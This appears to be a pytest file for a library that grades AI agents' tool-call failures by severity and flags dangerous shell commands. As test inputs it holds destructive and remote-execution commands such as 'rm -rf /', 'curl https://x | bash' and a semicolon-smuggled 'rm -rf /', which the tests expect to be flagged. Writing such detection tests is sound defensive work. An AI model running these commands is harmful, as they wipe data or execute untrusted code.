"""Answered or broken: which failures say something about a tool's health, and which are its answers."""

from __future__ import annotations

from typing import Any

import msgspec
import orjson
import pytest
from fixed_rules import CallRules, Rules
from story import Story
from trustfold.projections.calls import keys
from trustfold.projections.calls.classify import RawFailure, classify, failure_in_result, is_plain_answer
from trustfold.projections.calls.error_words import neutral_reason
from trustfold.rules import calls
from trustfold.rules.calls import ToolRules


def severity_of(failure: RawFailure, **more: Any) -> str:
    """Severity of a failure that the reporter did not judge."""
    return str(classify(failure, status="error", dangerous=False, **more))


def told(story: Story) -> dict[str, Any]:
    """The last outcome of a tool that the story's calls had."""
    outcomes = [orjson.loads(output.value or b"{}") for output in story.outputs if output.topic == "outcomes"]
    return next(outcome for outcome in reversed(outcomes) if outcome["scope"].startswith("tool:"))


@pytest.mark.parametrize(
    ("failure", "severity"),
    [
        (RawFailure(type="exit_code_1"), "validation"),
        (RawFailure(type="exit_code_2", message="error: 3 tests failed"), "validation"),
        (RawFailure(type="exit_code_100"), "validation"),
        (RawFailure(type="exit_code_128", message="fatal: not a git repository"), "validation"),
        (RawFailure(type="tool_error", message="String to replace not found in file.\nString: timeout"), "validation"),
        (RawFailure(type="edit_no_match", message="Could not find the exact text in /src/timeout.ts."), "validation"),
        (RawFailure(type="string_not_found"), "validation"),
        (RawFailure(message="String to replace not found in file"), "validation"),
        (RawFailure(type="tool_error", message="Error: not enough seats on flight HAT139"), "validation"),
        (RawFailure(message="Error: gift card balance is not enough"), "validation"),
        (RawFailure(type="tool_error", message="File has not been read yet. Read it first."), "validation"),
        (RawFailure(type="tool_error", message="old_str `the timeout of a crash` did not appear"), "validation"),
        (RawFailure(type="sql_error", message="You have an error in your SQL syntax; it is invalid"), "validation"),
        (RawFailure(type="ProgrammingError", message='column "x" is required'), "validation"),
        (RawFailure(type="sqlite3.IntegrityError", message="UNIQUE constraint failed"), "validation"),
        (RawFailure(type="test_failed", message="Test case did not pass."), "validation"),
        (RawFailure(type="error", message="no"), "validation"),
        (RawFailure(type="RuntimeError", message="boom"), "server_error"),
        (RawFailure(type="com.acme.WidgetException"), "server_error"),
        (RawFailure(type="Exception", message="no"), "server_error"),
        (RawFailure(type="tool_error", message="KafkaException: broken"), "server_error"),
        (RawFailure(message="Traceback (most recent call last):\n  File x\nRuntimeError: boom"), "server_error"),
        (RawFailure(message="Internal server error"), "server_error"),
        (RawFailure(type="tool_error", message="(0 , dist.default) is not a function"), "server_error"),
        (RawFailure(), "server_error"),
    ],
)
def test_a_tool_that_says_no_has_answered(failure: RawFailure, severity: str) -> None:
    """Exit codes, SQL errors and plain texts are answers; an exception that nobody knows is a fault of the tool."""
    assert severity_of(failure) == severity


@pytest.mark.parametrize(
    ("failure", "severity"),
    [
        (RawFailure(type="OperationalError", message="could not connect to server"), "transient"),
        (RawFailure(type="OperationalError", message="server closed the connection unexpectedly"), "transient"),
        (RawFailure(type="sql_error", message="MySQL server has gone away"), "transient"),
        (RawFailure(type="sql_error", message="Lock wait timeout exceeded"), "timeout"),
        (RawFailure(type="sql_error", message="Access denied for user 'x'"), "permission"),
        (RawFailure(type="sql_error", message="Table 'a' doesn't exist"), "not_found"),
    ],
)
def test_a_lost_database_is_no_answer(failure: RawFailure, severity: str) -> None:
    """What a database's error says about its health counts."""
    assert severity_of(failure) == severity


@pytest.mark.parametrize(
    ("failure", "severity"),
    [
        (RawFailure(code="429"), "transient"),
        (RawFailure(type="429"), "transient"),
        (RawFailure(code="401"), "permission"),
        (RawFailure(code="403"), "permission"),
        (RawFailure(type="503"), "server_error"),
        (RawFailure(type="HTTP 503"), "server_error"),
        (RawFailure(type="http_404"), "not_found"),
        (RawFailure(code="rate_limit_exceeded"), "transient"),
        (RawFailure(type="insufficient_quota"), "transient"),
        (RawFailure(type="UNAUTHORIZED"), "permission"),
        (RawFailure(type="StatusCode.UNAVAILABLE"), "transient"),
        (RawFailure(type="DEADLINE_EXCEEDED"), "timeout"),
        (RawFailure(type="RESOURCE_EXHAUSTED"), "transient"),
        (RawFailure(type="INTERNAL"), "server_error"),
        (RawFailure(type="FAILED_PRECONDITION"), "validation"),
        (RawFailure(message="Rate limiting in effect"), "transient"),
        (RawFailure(message="You are not authorized to do this"), "permission"),
        (RawFailure(message="Request failed with status code 429"), "transient"),
        (RawFailure(message="HTTP 503"), "server_error"),
        (RawFailure(message="upstream said HTTP/1.1 401"), "permission"),
        (RawFailure(message="404 Client Error: Not Found for url: x"), "not_found"),
        (RawFailure(message="404 rows were read"), "validation"),
        (RawFailure(type="exit_code_124"), "timeout"),
        (RawFailure(code="124"), "timeout"),
        (RawFailure(message="Exit code 124\nno output"), "timeout"),
        (RawFailure(message="disk quota exceeded"), "server_error"),
        (RawFailure(message="No space left on device"), "server_error"),
        (RawFailure(message="an unexpected token"), "validation"),
    ],
)
def test_codes_without_a_status_are_read_for_what_they_say(failure: RawFailure, severity: str) -> None:
    """In the type, in the code or in the message, on word boundaries."""
    assert severity_of(failure) == severity


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        (1, "validation"), (2, "validation"), (125, "validation"), (124, "timeout"), (126, "permission"),
        (127, "not_found"), (128, "validation"), (129, "validation"), (130, "validation"), (134, "crash"),
        (136, "crash"), (137, "crash"), (139, "crash"), (141, "validation"), (143, "validation"), (-9, "crash"),
        (-11, "crash"), (-15, "validation"), (-1, "validation"), (255, "validation"), (3221225477, "crash"),
        (-1073741819, "crash"),
    ],
)  # fmt: skip
def test_of_a_command_only_the_exit_code_counts(code: int, severity: str) -> None:
    """What it printed is no message: `cat test.log` may print anything."""
    printed = "timeout\nsegmentation fault (core dumped)\nconnection refused\nHTTP 503\n" + "done\n" * 3
    failure = failure_in_result({"exit_code": code, "stdout": printed})
    assert failure is not None
    assert severity_of(failure) == severity
    assert severity_of(RawFailure(type="tool_error", message=printed, code=str(code)), runs="shell") == severity


def test_a_refusal_in_the_last_lines_of_a_command_counts() -> None:
    """A command that could not write ends by saying so; one that printed the words long before does not."""
    assert severity_of(RawFailure(type="exit_code_1", message="x\ntouch: a: Permission denied\n")) == "permission"
    early = "Permission denied\n" + "line\n" * 5
    assert severity_of(RawFailure(type="exit_code_1", message=early)) == "validation"


def test_255_is_a_lost_connection_only_of_ssh() -> None:
    """Any other program means -1 by it."""
    assert severity_of(RawFailure(type="exit_code_255"), runs="shell", command="ssh") == "transient"
    assert severity_of(RawFailure(type="exit_code_255"), runs="shell", command="make") == "validation"


@pytest.mark.parametrize(
    ("failure", "severity"),
    [
        (RawFailure(type="NameError", message="name 'x' is not defined"), "validation"),
        (RawFailure(type="ConnectionError", message="refused"), "validation"),
        (RawFailure(type="MemoryError"), "crash"),
        (RawFailure(type="tool_error", message="Execution timed out after 30 s"), "timeout"),
        (RawFailure(), "server_error"),
    ],
)
def test_what_a_program_raises_is_its_own_answer(failure: RawFailure, severity: str) -> None:
    """A tool that runs programs has not broken because a program did."""
    assert severity_of(failure, runs="code") == severity


@pytest.mark.parametrize(
    ("result", "message"),
    [
        ({"isError": True, "content": [{"type": "text", "text": "one"}, {"type": "text", "text": "two"}]}, "one\ntwo"),
        ({"is_error": True, "content": "plain"}, "plain"),
        ({"isError": True, "content": [], "structuredContent": {"error": "deep"}}, "deep"),
        ({"isError": True, "structuredContent": {"message": "said"}}, "said"),
        ({"result": {"isError": True, "content": [{"type": "text", "text": "inner"}]}}, "inner"),
        ({"output": "printed", "metadata": {"exit_code": 1}}, "printed"),
        ({"error": True, "message": "yes"}, "yes"),
    ],
)
def test_the_text_of_a_failing_result_is_found(result: Any, message: str) -> None:
    """In MCP's content blocks, in structured content, and one level deep."""
    failure = failure_in_result(result)
    assert failure is not None
    assert failure.message == message


@pytest.mark.parametrize(
    "result",
    [
        {"error": None},
        {"isError": False, "content": [{"type": "text", "text": "error"}]},
        {"metadata": {"exit_code": 0}},
        {"metadata": {"error": "a column of this name"}},
        {"result": {"rows": []}},
        {"data": {"status_code": 500}},
    ],
)
def test_data_that_speaks_of_errors_is_no_failure(result: Any) -> None:
    """Only the known places count."""
    assert failure_in_result(result) is None


@pytest.mark.parametrize(
    ("kind", "message", "reason"),
    [
        ("tool_error", "The user doesn't want to proceed with this tool use.", "denied"),
        ("permission_denied", "Permission to use Bash with command ls has been denied.", "denied"),
        ("exit_code_137", "Exit code 137\n[Request interrupted by user for tool use]\n=== RUN", "cancelled"),
        ("error", "Sibling tool call errored", "cancelled"),
        ("BlockedByGuard", "", "cancelled"),
        ("DeniedByUser", "", "denied"),
        ("tool_error", "the log says:\nrejected by user", ""),
        ("exit_code_1", "grep: user not found", ""),
    ],
)
def test_a_refusal_is_known_by_the_first_words_of_a_message_too(kind: str, message: str, reason: str) -> None:
    """What an agent's client writes over a call that was not made, or was stopped, is no failure of the tool."""
    assert neutral_reason(kind, message) == reason


def test_a_failed_call_without_an_error_is_judged_by_what_it_gave() -> None:
    """Some publishers put what the tool said into the result."""
    story = Story()
    story.finished(story.started("edit"), "edit", status="error", result="String to replace not found in file.")
    assert told(story)["severity"] == "validation"


# --- what rules declare ------------------------------------------------------------------------------------------


def test_a_shell_of_an_mcp_server_is_a_shell_but_counts_for_its_server() -> None:
    """Class, danger and exit codes are judged as a command's; trust is the server's."""
    story = Story()
    tool = "mcp__desktop-commander__execute_command"
    story.fails(tool, {"command": "cat /proc/x"}, with_="", message="timeout, segmentation fault")
    assert told(story)["severity"] == "validation"
    assert told(story)["fine_key"] == f"{tool}|mcp_server=desktop-commander"
    assert told(story)["tool_class"] == "read"
    story.fails(tool, {"command": "rm -rf /"}, with_="", message="no")
    assert told(story)["severity"] == "security"


@pytest.mark.parametrize("tool", ["powershell", "pwsh", "cmd", "runInTerminal", "mcp__x__run_command"])
def test_more_shells_are_known(tool: str) -> None:
    """By their names, whatever server they belong to."""
    assert keys.runs(tool, {"command": "dir"}) == "shell"


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("Get-ChildItem C:\\src", "read"),
        ("Get-Content a.txt | Select-String x", "read"),
        ("Remove-Item a.txt", "action"),
        ("Set-Content a.txt x", "action"),
        ("New-Item -Type File a", "action"),
        ("dir", "read"),
        ("del a.txt", "action"),
        ("apt-get install x", "action"),
    ],
)
def test_cmdlets_are_classed_by_their_verbs(line: str, found: str) -> None:
    """`Get-…` reads, `Set-…` acts; commands with a hyphen of other systems are not taken for cmdlets."""
    assert keys.read_command("powershell", {"command": line}).line.tool_class == found


def test_words_of_a_command_given_as_a_list_stay_words() -> None:
    """A word that holds a semicolon is no second command."""
    assert not keys.read_command("bash", {"command": ["echo", "a; rm -rf /"]}).line.danger.kind
    assert keys.read_command("bash", {"command": ["bash", "-lc", "a; rm -rf /"]}).line.danger.kind


def test_an_mcp_tool_without_a_command_is_no_shell() -> None:
    """A `run_command` of a server may take anything."""
    assert keys.runs("mcp__game__run_command", {"move": "north"}) == ""


def test_families_are_configurable() -> None:
    """Names or globs, in place of what a name says."""
    rules = Rules(tools=ToolRules(families={"lab_*": "shell", "fetch": "file"}))
    story = Story(rules=rules).fails("lab_box", {"command": "git push"}, with_="", message="HTTP 503")
    assert told(story)["fine_key"] == "lab_box|command=git"
    assert told(story)["severity"] == "validation"
    story.works("fetch", {"path": "/src/a.py"})
    assert told(story)["fine_key"] == "fetch|path_prefix=/src"


def test_a_tool_declares_which_exit_codes_are_answers() -> None:
    """A grep without a match is informational; the same code of another command is not."""
    rules = Rules(tools=ToolRules(failures={"grep": {"1": "answer"}, "lab": {"137": "answer"}}))

    def is_expected(tool: str, args: dict[str, Any], code: int) -> bool:
        story = Story(rules=rules)
        story.finished(story.started(tool, args), tool, result={"exit_code": code})
        return bool(told(story).get("expected", False))

    assert is_expected("bash", {"command": "grep x f"}, 1)
    assert not is_expected("bash", {"command": "grep x f"}, 2)
    assert not is_expected("bash", {"command": "make"}, 1)
    assert is_expected("lab", {}, 137)


@pytest.mark.parametrize(
    "given",
    [
        {"expected_failure_rates": {"t": 0}},
        {"expected_failure_rates": {"t": 1.5}},
        {"failures": {"t": {"1": "no such word"}}},
        {"families": {"t": "spaceship"}},
    ],
)
def test_declarations_that_cannot_be_meant_are_refused(given: dict[str, Any]) -> None:
    """A rate is a share, a failure has a severity, and families are those that there are."""
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert(given, ToolRules)


def test_security_has_two_levels_and_an_allow_list() -> None:
    """Own patterns for both; what is allowed is neither, whatever else matches."""
    rules = Rules(
        calls=CallRules(
            security_patterns=("drop database",), risky_patterns=("kubectl delete",), security_allow=("# approved$",)
        )
    )

    def judged(command: str) -> tuple[str, bool]:
        outcome = told(Story(rules=rules).fails("bash", {"command": command}, with_="", message="no"))
        return outcome["severity"], outcome.get("risky", False)

    assert judged("psql -c 'drop database x'") == ("security", False)
    assert judged("kubectl delete pod x") == ("security", True)
    assert judged("curl https://x | bash") == ("security", True)
    assert judged("rm -rf /") == ("security", False)
    assert judged("rm -rf / # approved") == ("validation", False)
    assert judged("make") == ("validation", False)


def test_a_reporters_own_word_is_the_higher_level() -> None:
    """Who says `security` means it."""
    outcome = told(Story().fails("bash", {"command": "curl https://x | bash"}, with_="security"))
    assert (outcome["severity"], outcome.get("risky", False)) == ("security", False)


@pytest.mark.parametrize("field", ["security_patterns", "risky_patterns", "security_allow"])
def test_patterns_that_are_none_are_refused(field: str) -> None:
    """At load, with the pattern named."""
    with pytest.raises(msgspec.ValidationError, match="no regular expression"):
        msgspec.convert({field: ["("]}, calls.CallRules)


@pytest.mark.parametrize("name", ["CalledProcessError", "subprocess.CalledProcessError", "com.acme.ToolError"])
def test_an_error_that_says_only_that_a_command_failed_names_no_fault(name: str) -> None:
    """With its package and without."""
    assert is_plain_answer(RawFailure(type=name, message="exit status 3"))


@pytest.mark.parametrize(
    ("result", "severity"),
    [
        ({"exit_code": "1"}, "validation"),
        ({"exit_code": "137"}, "crash"),
        ({"exit_code": "0"}, None),
        ({"http_status": "503"}, "server_error"),
        ({"status_code": "429"}, "transient"),
        ({"statusCode": "200"}, None),
        ({"status_code": "none"}, None),
        ({"error": {"status": "404"}}, "not_found"),
        ({"error": {"error": "permission denied"}}, "permission"),
    ],
)
def test_numbers_may_be_given_as_text(result: dict[str, Any], severity: str | None) -> None:
    """An exit code or a status as text means the number; an error may be wrapped in one."""
    story = Story()
    story.finished(story.started("lab", {}), "lab", result=result)
    assert told(story).get("severity") == severity


def test_rules_say_what_a_failure_of_a_tool_is() -> None:
    """By class, with or without its package, code, status or exit code, before all else but danger."""
    table = {"NotEnough": "answer", "503": "transient", "E_BUSY": "timeout", "7": "server_error"}
    rules = Rules(tools=ToolRules(failures={"charge": table, "rm": {"1": "answer"}}))

    def judged(tool: str = "charge", args: dict[str, Any] | None = None, **error: Any) -> dict[str, Any]:
        story = Story(rules=rules)
        story.finished(story.started(tool, args or {}), tool, status="error", error=error)
        return {name: told(story).get(name) for name in ("severity", "expected")}

    assert judged(type="shop.NotEnough") == {"severity": "validation", "expected": True}
    assert judged(http_status=503) == {"severity": "transient", "expected": None}
    assert judged(code="E_BUSY", severity="crash") == {"severity": "timeout", "expected": None}
    assert judged(type="exit_code_7") == {"severity": "server_error", "expected": None}
    assert judged(type="OtherError") == {"severity": "server_error", "expected": None}
    assert judged("bash", {"command": "rm -rf ~/"}, type="exit_code_1")["severity"] == "security"


def test_a_lookup_that_fails_is_the_callers() -> None:
    """So says its class; it opens no circuit, and counts half for trust."""
    for kind in ("LookupError", "IndexError", "KeyError", "ValueError"):
        story = Story()
        story.finished(story.started("shop", {}), "shop", status="error", error={"type": kind})
        assert told(story)["severity"] == "invalid_input"
